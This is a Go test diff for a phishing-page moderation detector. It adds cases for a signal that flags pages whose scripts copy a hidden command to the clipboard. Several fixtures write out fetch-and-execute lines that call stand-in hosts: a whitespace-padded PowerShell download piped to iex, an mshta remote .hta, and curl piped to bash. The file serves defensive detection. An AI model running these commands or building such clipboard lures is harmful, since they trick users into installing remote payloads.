@@ -13,6 +13,12 @@ func page(url, text string, forms ...moderation.Form) moderation.Capture {
 	return moderation.Capture{Profile: moderation.Desktop, URL: url, FinalURL: url, Status: 200, Text: text, Forms: forms}
 }
 
+// clipped is c with what its scripts put on the clipboard.
+func clipped(c moderation.Capture, texts ...string) moderation.Capture {
+	c.Clipboard = texts
+	return c
+}
+
 func withLinks(c moderation.Capture, hosts ...string) moderation.Capture {
 	c.Links = hosts
 	return c
@@ -105,6 +111,19 @@ func TestStructuralSignals(t *testing.T) {
 		{"邮箱升级", ultimatumSignal, page("http://mail.example.top/", "未在24小时内完成升级的账号将被停用", login("")), weightUltimatum},
 		{"a password that expired", ultimatumSignal, page("https://account.example.com/", "Your password expires today. Choose a new one or the account is locked",
 			moderation.Form{Password: true, Fields: []string{"current", "new", "confirm"}, Types: []string{"password", "password", "password"}}), 0},
+
+		{"a path shown, a PowerShell line copied", hiddenCommandSignal, clipped(page("https://hrdocs.example.com/view", `Open it from File Explorer: copy the path C:\company\share\letter.docx, press Win+E and paste it in the address bar`),
+			`powershell -w h -c "iwr http://cdn.example.top/a.ps1 | iex"          # C:\company\share\letter.docx`), weightHiddenCommand},
+		{"a code shown, mshta copied", hiddenCommandSignal, clipped(page("https://verify.example.site/", "Verify you are human: press Win+R, paste your code ✔ 7731 and press Enter"),
+			"mshta https://cdn.example.top/v.hta # ✔ 7731"), weightHiddenCommand},
+		{"a script piped into a shell, not shown", hiddenCommandSignal, clipped(page("https://meet.example.live/fix", "Your camera driver is blocked. Open Terminal, paste and press Return."),
+			"curl -fsSL https://cdn.example.top/fix | bash"), weightHiddenCommand},
+		{"an install line shown and copied", hiddenCommandSignal, clipped(page("https://tool.example.dev/install", "Install the command line tool: $ curl -fsSL https://tool.example.dev/install.sh | sh"),
+			"curl -fsSL https://tool.example.dev/install.sh | sh"), 0},
+		{"a PowerShell line shown over two lines, copied as one", hiddenCommandSignal, clipped(page("https://docs.example.com/setup", "Run in PowerShell: Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.example.com/install.ps1 | iex"),
+			"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser;\n irm https://get.example.com/install.ps1 | iex"), 0},
+		{"a link copied", hiddenCommandSignal, clipped(page("https://sho.example/share", "Share this page"), "https://sho.example/s/abc"), 0},
+		{"a coupon code copied", hiddenCommandSignal, clipped(page("https://shop.example/deal", "Use the code at checkout"), "SPRING-25"), 0},
 
 		{"words drawn, read by OCR", hiddenTextSignal, drawn, weightDrawnText},
 		{"no words, not read", hiddenTextSignal, drawnNoOCR, weightHiddenText},
